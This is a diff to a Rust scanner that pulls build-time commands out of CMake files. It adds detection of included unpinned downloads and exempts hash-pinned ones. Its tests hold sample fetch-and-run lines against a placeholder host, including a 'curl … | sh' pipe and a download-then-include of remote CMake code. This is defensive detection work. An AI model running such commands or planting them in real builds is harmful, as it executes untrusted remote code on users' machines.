@@ -9,7 +9,8 @@
 //! - CMake: the `COMMAND` argument lists of `execute_process` (runs while CMake configures; two
 //!   or more `COMMAND`s are one pipeline, `a | b`), `add_custom_command`, `add_custom_target`
 //!   and the `*_COMMAND`s of `ExternalProject_Add` (run while it builds), and `file(DOWNLOAD url
-//!   file)` when a command of the same file uses the downloaded file, `file(WRITE|APPEND)` of a
+//!   file)` (without `EXPECTED_HASH`) when a command of the same file uses the downloaded file
+//!   or `include()`s it (then it runs, as CMake code), `file(WRITE|APPEND)` of a
 //!   `.pth` or `.py` (Python the build plants); `cmake_language(CALL execute_process …)` as the
 //!   call it names, `cmake -E env … COMMAND` as COMMAND; `${NAME}` of variables the file sets
 //!   (`set`, `list(APPEND)`, `string(CONCAT)`) and of `Python_EXECUTABLE` (`python3`) and
@@ -638,12 +639,40 @@ fn cmake(text: &str) -> Vec<Command> {
     for start in calls(text, "file") {
         let args = expand(&cmake_args(text, start), &vars);
         if let [op, url, file, ..] = args.as_slice() {
-            if op == "DOWNLOAD" {
+            // A download pinned by its hash (`EXPECTED_HASH SHA256=…`, as CPM.cmake's own
+            // bootstrap does) fetches nothing its author did not choose.
+            let pinned = args
+                .iter()
+                .any(|a| a == "EXPECTED_HASH" || a == "EXPECTED_MD5");
+            if op == "DOWNLOAD" && !pinned {
                 out.push(Command::Download(
                     line_at(text, start),
                     url.clone(),
                     file.clone(),
                 ));
+            }
+        }
+    }
+    // `include(FILE)` of a downloaded file runs it as CMake code.
+    let downloaded: Vec<String> = out
+        .iter()
+        .filter_map(|c| match c {
+            Command::Download(_, _, file) => {
+                Some(file.rsplit(['/', '\\']).next().unwrap_or(file).to_string())
+            }
+            _ => None,
+        })
+        .filter(|b| !b.is_empty())
+        .collect();
+    if !downloaded.is_empty() {
+        for start in calls(text, "include") {
+            let args = expand(&cmake_args(text, start), &vars);
+            if let Some(f) = args
+                .first()
+                .filter(|f| downloaded.iter().any(|d| f.contains(d.as_str())))
+            {
+                // Written as running the file itself: code that was downloaded, then run.
+                out.push(Command::Argv(line_at(text, start), vec![f.clone()]));
             }
         }
     }
@@ -1186,6 +1215,18 @@ mod tests {
                         "curl -s https://x.example.invalid/i | sh".into()
                     ]
                 ),
+            ]
+        );
+        let pinned = "file(DOWNLOAD https://x.example.invalid/CPM.cmake ${B}/CPM.cmake EXPECTED_HASH SHA256=00)\ninclude(${B}/CPM.cmake)\nfile(DOWNLOAD https://x.example.invalid/deps.cmake ${B}/deps.cmake)\ninclude(${B}/deps.cmake)\n";
+        assert_eq!(
+            commands(pinned, Kind::Cmake),
+            vec![
+                Command::Download(
+                    3,
+                    "https://x.example.invalid/deps.cmake".into(),
+                    "${B}/deps.cmake".into()
+                ),
+                Command::Argv(4, vec!["${B}/deps.cmake".into()]),
             ]
         );
         let meson = "sh = find_program('sh')\nc = ['-c']\nc += ['ec' + 'ho hi']\nrun_command(sh, c, check: false)\nmeson.add_install_script('bash', '-c', 'echo x')\n";
